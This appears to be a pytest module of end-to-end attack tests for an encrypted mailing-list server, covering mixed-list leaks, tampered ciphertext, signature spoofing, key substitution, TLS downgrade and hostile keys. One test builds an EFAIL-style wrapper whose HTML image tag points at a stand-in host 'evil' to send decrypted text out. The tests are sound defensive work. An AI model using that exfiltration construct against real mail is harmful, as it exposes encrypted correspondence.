"""Attacks on the protection of a secure list, with real processes; beside each the same mail made legitimate, since a
server that refuses everything passes every attack. At the end nothing on disk or in the logs shows the canary."""
import json
import os
import pathlib
import re
import sqlite3
import subprocess
import tempfile
import time

import pytest
from conftest import Stage
from sitekit import Refused, Sink, files_with, make_message, swaks, wait_until
from test_ladder import GnuPg

SECURE, OPEN = "secure@lists.example", "open@lists.example"
CANARY = "Kanarie-" + os.urandom(6).hex()
ANN, BOB, GRETA, CID, OLD, NIK, TOM = ("ann@example.org", "bob@example.org", "greta@pgp.example", "cid@example.net",
                                       "old@example.net", "nik@example.net", "tom@tls.example")


def crlf(data):
    return re.sub(rb"\r?\n", b"\r\n", data)


def openssl(*arguments, input):
    done = subprocess.run(["openssl", *arguments], input=input, capture_output=True)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


class Scene:
    def __init__(self, stage, folder):
        self.stage, self.site, self.folder = stage, stage.site, folder
        self.greta = GnuPg(folder, GRETA, "ed25519", "cv25519")
        self.proven = Sink(folder / "proven.crt", folder / "proven.key")  # TOM has no key, his server proves itself
        self.site.cli("route", "add", "tls.example", "127.0.0.1", "--port", str(self.proven.port))
        members = [stage.person(ANN, "rsa"), stage.person(BOB, "p256"), stage.person(GRETA), stage.person(CID),
                   stage.person(NIK), stage.person(TOM)]
        stage.make_list(SECURE, members, ladder="smime,openpgp,tls,pickup")
        wait_until(lambda: "tls" in [g["protection"] for g in self.site.cli("list", "plan", SECURE)["counts"]],
                   "the server of the member is known")
        stage.make_list(OPEN, [stage.person(ANN), stage.person(CID)], secure=False)
        self.site.cli("key", "import", GRETA, str(self.greta.public))
        self.site.cli("member", "set", SECURE, NIK, "--wish", "smime")  # no key: withheld
        old = stage.person(OLD)
        self.expired(old)
        self.site.cli("member", "add", SECURE, OLD)
        self.site.cli("member", "set", SECURE, OLD, "--wish", "smime")
        with sqlite3.connect(f"file:{self.site.data}/listd/site.db?mode=ro", uri=True) as database:
            certificate, key = database.execute("SELECT certificate, openpgp_key FROM lists WHERE address = ?",
                                                (SECURE,)).fetchone()
        (folder / "list.crt").write_bytes(openssl("x509", "-inform", "DER", input=certificate))
        self.greta.run("--import", input=key)

    def expired(self, person):
        """A certificate that ended years ago."""
        key, certificate = self.folder / "old.key", self.folder / "old.crt"
        openssl("genrsa", "-out", str(key), "2048", input=b"")
        (self.folder / "ca").mkdir()
        (self.folder / "ca/index").write_text("")
        (self.folder / "ca/serial").write_text("01\n")
        (self.folder / "ca/conf").write_text(
            f"[ca]\ndefault_ca=c\n[c]\ndatabase={self.folder}/ca/index\nserial={self.folder}/ca/serial\n"
            f"new_certs_dir={self.folder}/ca\ndefault_md=sha256\npolicy=p\nx509_extensions=e\n[p]\ncommonName=supplied\n"
            f"[e]\nsubjectAltName=email:{person.address}\nextendedKeyUsage=emailProtection\n"
            "keyUsage=digitalSignature,keyEncipherment\n")
        request = openssl("req", "-new", "-key", str(key), "-subj", "/CN=old", input=b"")
        (self.folder / "old.csr").write_bytes(request)
        openssl("ca", "-batch", "-config", str(self.folder / "ca/conf"), "-selfsign", "-keyfile", str(key), "-in",
                str(self.folder / "old.csr"), "-startdate", "20200101000000Z", "-enddate", "20210101000000Z", "-out",
                str(certificate), input=b"")
        self.site.cli("key", "import", person.address, str(certificate))

    def signed(self, entity, *people):
        signers = [part for person in people for part in ("-signer", str(person.certificate), "-inkey", str(person.key))]
        return crlf(openssl("cms", "-sign", "-md", "sha256", "-crlfeol", *signers, input=entity))

    def sealed(self, entity):
        return crlf(openssl("cms", "-encrypt", "-aes256", "-crlfeol", str(self.folder / "list.crt"), input=entity))

    def send(self, entity, sender=ANN, to=(SECURE,), subject="...", header=b""):
        """Sends the entity (MIME fields, empty line, body) and waits until the list is done with it. The post."""
        message = (f"From: {sender}\r\nTo: {to[0]}\r\nSubject: {subject}\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\n"
                   f"Message-ID: <{os.urandom(8).hex()}@example.org>\r\n").encode() + header + entity
        before = {item["id"] for item in self.site.cli("post", "list", SECURE)["items"]}
        code, dialogue = swaks(self.site.smtp_port, sender, list(to), message)
        if code != 0:
            return dialogue

        def done():
            new = [p for p in self.site.cli("post", "list", SECURE)["items"] if p["id"] not in before]
            return new[0] if new and new[0]["state"] in ("done", "rejected", "ignored") else None

        post = wait_until(done, "the list is done with the post")
        with sqlite3.connect(f"file:{self.site.data}/listd/site.db?mode=ro", uri=True) as database:
            post["verdict"], post["reason"] = database.execute("SELECT verdict, reason FROM posts WHERE id = ?",
                                                               (post["id"],)).fetchone()
        return post


@pytest.fixture(scope="module")
def scene(tmp_path_factory):
    folder = tmp_path_factory.mktemp("attacks")
    openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout",
            str(folder / "proven.key"), "-out", str(folder / "proven.crt"), "-days", "10", "-subj", "/CN=proven", "-addext",
            "subjectAltName=IP:127.0.0.1", input=b"")
    with tempfile.TemporaryDirectory(prefix="postern-e2e-") as site:
        stage = Stage(site, {"delivery.trust_anchors": json.dumps(str(folder / "proven.crt"))}).open()
        made = Scene(stage, folder)
        yield made
        check_at_the_end(made)
        stage.close()
        made.proven.stop()


def check_at_the_end(made):
    stage = made.stage
    # The last word of the module: what was encrypted is nowhere readable.
    assert files_with(stage.folder, CANARY.encode()) == []
    temporary = [path for path in pathlib.Path(tempfile.gettempdir()).glob("*") if path.is_file()]
    assert [path for path in temporary if os.access(path, os.R_OK) and CANARY.encode() in path.read_bytes()] == []
    for mail in stage.sink.received:
        assert CANARY.encode() not in mail.raw, mail.recipients
    for mail in made.proven.received:
        assert mail.recipients == [TOM] and mail.tls


def text(canary=CANARY):
    return f"Content-Type: text/plain; charset=utf-8\r\n\r\n{canary}\r\n".encode()


def test_1_a_tagged_mail_to_a_secure_and_an_open_list_goes_to_neither(scene):
    message = make_message(ANN, SECURE, "Secure: both", CANARY)
    for recipients in ([SECURE, OPEN], [OPEN, SECURE], [OPEN]):  # the order, and Bcc: the header names one of them
        since = time.time()
        before = scene.site.cli("post", "list", SECURE)["items"]
        code, dialogue = swaks(scene.site.smtp_port, ANN, recipients, message)
        assert code != 0 and "550-5.7.1 refused by policy; nothing was delivered to anyone" in dialogue, dialogue
        time.sleep(1)
        assert scene.site.cli("post", "list", SECURE)["items"] == before
        assert not [m for m in scene.stage.sink.received + scene.proven.received if m.at >= since]
    assert swaks(scene.site.smtp_port, ANN, [SECURE], message)[0] == 0
    assert CANARY.encode() in scene.stage.people[BOB].read(scene.stage.sink.wait(BOB)[0].raw)


def test_1_an_open_list_that_is_a_member_of_a_secure_one_spreads_nothing(scene):
    since = time.time()
    with pytest.raises(Refused):
        scene.site.cli("member", "add", SECURE, OPEN)
    post = scene.send(b"MIME-Version: 1.0\r\n" + text(), subject="Secure: nested")
    scene.stage.sink.wait(BOB, since=since)
    assert OPEN not in {r["address"] for r in scene.site.cli("trace", str(post["id"]))["recipients"]}
    assert scene.site.cli("post", "list", OPEN)["items"] == []


def test_3_no_plaintext_for_an_expired_certificate_or_no_key(scene):
    since = time.time()
    post = scene.send(b"MIME-Version: 1.0\r\n" + text(), subject="Secure: " + CANARY)
    assert post["verdict"] == "accepted"
    copy, = scene.stage.sink.wait(BOB, since=since)
    assert CANARY.encode() in scene.stage.people[BOB].read(copy.raw)
    rows = {r["address"]: r for r in scene.site.cli("trace", str(post["id"]))["recipients"]}
    assert rows[OLD]["protection"] == rows[NIK]["protection"] == "withheld"
    assert rows[CID]["protection"] == "pickup" and rows[GRETA]["protection"] == "openpgp"
    assert rows[TOM]["protection"] == "tls"
    assert CANARY.encode() in scene.proven.wait(TOM, since=since)[0].raw
    for address in (OLD, NIK):
        notice = scene.stage.sink.wait(address)[0]  # of the first post; one a day
        assert "could not be sent to you" in notice.message["Subject"] and CANARY.encode() not in notice.raw


def test_3_a_kill_in_mid_fan_out_leaves_no_plaintext_and_loses_nothing(scene):
    since = time.time()
    code, dialogue = swaks(scene.site.smtp_port, ANN, [SECURE], make_message(ANN, SECURE, "Secure: k", CANARY + " killed"))
    assert code == 0, dialogue
    for program in ("postern-listd", "postern-gateway", "postern-listd"):
        scene.site.kill(program)
        assert files_with(scene.site.data, CANARY.encode()) == []
        time.sleep(0.2)
    scene.site.wait_ready()
    copy = scene.stage.sink.wait(BOB, since=since)[-1]
    assert CANARY.encode() + b" killed" in scene.stage.people[BOB].read(copy.raw)


def test_4_a_copy_is_for_one_recipient_and_names_no_other(scene):
    since = time.time()
    scene.send(b"MIME-Version: 1.0\r\n" + text(), subject="Secure: " + CANARY)
    got = {a: scene.stage.sink.wait(a, since=since)[0] for a in (ANN, BOB, GRETA, CID)}
    for address, copy in got.items():
        assert copy.recipients == [address]
        assert not any(o.encode() in copy.raw for o in (ANN, BOB, GRETA, CID, OLD, NIK) if o != address)
    for address in (ANN, BOB):
        shown = openssl("cms", "-cmsout", "-print", "-inform", "SMIME", input=got[address].raw)
        assert len(re.findall(rb"d\.(?:ktri|kari):", shown)) == 1
    packets = scene.greta.run("--list-packets", input=got[GRETA].message.get_payload()[1].get_payload(decode=True))
    assert packets.count(b":pubkey enc packet:") == 1
    assert got[ANN].message["Message-ID"] == got[BOB].message["Message-ID"]


def test_5_no_oracle_captured_or_changed_ciphertext_is_one_refusal_and_the_real_mail_goes_out(scene):
    ann = scene.stage.people[ANN]
    good = scene.sealed(scene.signed(text(), ann))
    head, body = good.split(b"\r\n\r\n", 1)
    lines = body.rstrip().split(b"\r\n")
    lines[-3] = lines[-3][:20] + (b"A" if lines[-3][20:21] != b"A" else b"B") + lines[-3][21:]
    armored = scene.greta.run("--armor", "--encrypt", "-r", SECURE, input=text())

    def mime(armor):
        return (b"MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; "
                b"boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--e\r\n"
                b"Content-Type: application/octet-stream\r\n\r\n" + crlf(armor) + b"\r\n--e--\r\n")

    attacks = {"of another": (good, BOB), "changed": (head + b"\r\n\r\n" + b"\r\n".join(lines) + b"\r\n", ANN),
               "not signed": (scene.sealed(text()), ANN), "pgp not signed": (mime(armored), GRETA),
               "pgp no mdc": (mime(scene.greta.run("--armor", "--rfc2440", "--disable-mdc", "--sign", "--encrypt", "-r",
                                                   SECURE, input=text())), GRETA)}
    answers = set()
    for name, (entity, sender) in attacks.items():
        since = time.time()
        post = scene.send(entity, sender)
        assert post["verdict"] == "rejected", name
        answers.add(post["reason"])
        assert not [m for m in scene.stage.sink.of(CID, since)], name
    assert answers == {"unreadable"}
    wrapped = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n" \
              b"\r\n<img src=\"http://evil/?\r\n--b\r\n" + good.replace(b"MIME-Version: 1.0\r\n", b"") + b"\r\n--b--\r\n"
    since = time.time()
    scene.send(wrapped, BOB)
    assert CANARY.encode() not in scene.stage.people[ANN].read(scene.stage.sink.wait(ANN, since=since)[0].raw)
    for entity, sender in ((good, ANN), (mime(scene.greta.run("--armor", "--sign", "--encrypt", "-r", SECURE,
                                                              input=text())), GRETA)):
        since = time.time()
        assert scene.send(entity, sender)["verdict"] == "accepted"
        assert CANARY.encode() in scene.stage.people[BOB].read(scene.stage.sink.wait(BOB, since=since)[0].raw)


def verdict_read_by_bob(scene, entity, sender=ANN, header=b""):
    since = time.time()
    post = scene.send(entity, sender, header=header)
    if not isinstance(post, dict) or post["verdict"] != "accepted":
        return "refused"
    read = scene.stage.people[BOB].read(scene.stage.sink.wait(BOB, since=since)[0].raw)
    found = re.search(rb"\nSignature: ([a-z]+)", read)
    return found.group(1).decode() if found else "none"


def test_6_only_the_whole_mail_signed_by_the_author_alone_counts(scene):
    ann, bob = scene.stage.people[ANN], scene.stage.people[BOB]
    good = scene.signed(text(), ann)
    assert verdict_read_by_bob(scene, good) == "good"
    assert verdict_read_by_bob(scene, scene.signed(text(), bob)) == "by"
    assert verdict_read_by_bob(scene, scene.signed(text(), ann, bob)) != "good"
    assert verdict_read_by_bob(scene, good.replace(CANARY.encode(), CANARY.encode() + b"!")) != "good"
    partial = b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n" + \
              good.replace(b"MIME-Version: 1.0\r\n", b"") + b"\r\n--o\r\nContent-Type: text/plain\r\n\r\nmore\r\n--o--\r\n"
    assert verdict_read_by_bob(scene, partial) != "good"
    assert verdict_read_by_bob(scene, good, header=f"From: {BOB}\r\n".encode()) == "refused"


def test_10_a_copy_that_needs_tls_never_goes_to_a_server_without_it(scene):
    plain = Sink()
    try:
        scene.site.cli("route", "add", "plain.example", "127.0.0.1", "--port", str(plain.port), "--tls", "verified")
        member = "tom@plain.example"
        scene.site.cli("member", "add", OPEN, member)
        message = make_message(ANN, OPEN, "hello", "no secret")
        assert swaks(scene.site.smtp_port, ANN, [OPEN], message)[0] == 0
        waiting = wait_until(lambda: [c for c in scene.site.cli("queue", "list")["items"] if c["lastReply"]], "it waits")
        assert waiting and plain.received == []
        scene.site.cli("route", "add", "plain.example", "127.0.0.1", "--port", str(plain.port), "--tls", "opportunistic")
        plain.wait(member, seconds=60)
    finally:
        plain.stop()


def test_13_a_key_in_a_mail_does_not_replace_the_confirmed_one(scene, tmp_path):
    from sitekit import Person
    thief = Person(tmp_path, ANN, "rsa")
    assert thief.certificate.read_bytes() != scene.stage.people[ANN].certificate.read_bytes()
    assert verdict_read_by_bob(scene, scene.signed(text(), thief), header=b"Autocrypt: addr=" + ANN.encode() +
                               b"; keydata=AAAA\r\n") == "by"
    since = time.time()
    scene.send(b"MIME-Version: 1.0\r\n" + text(), BOB, subject="Secure: after")
    assert CANARY.encode() in scene.stage.people[ANN].read(scene.stage.sink.wait(ANN, since=since)[0].raw)


def test_21_hostile_keys_are_refused_at_once(scene, tmp_path):
    openssl("genrsa", "-out", str(tmp_path / "k"), "2048", input=b"")
    names = ",".join(f"email:u{i}@example.org" for i in range(5000))
    (tmp_path / "conf").write_text(f"[req]\ndistinguished_name=d\nx509_extensions=e\n[d]\n[e]\nsubjectAltName={names}\n")
    openssl("req", "-x509", "-key", str(tmp_path / "k"), "-config", str(tmp_path / "conf"), "-subj", "/CN=x", "-out",
            str(tmp_path / "many.crt"), input=b"")
    (tmp_path / "garbage").write_bytes(b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + b"A" * 600_000)
    for name in ("many.crt", "garbage"):
        start = time.monotonic()
        with pytest.raises(Refused):
            scene.site.cli("key", "import", "mal@example.org", str(tmp_path / name))
        assert time.monotonic() - start < 3
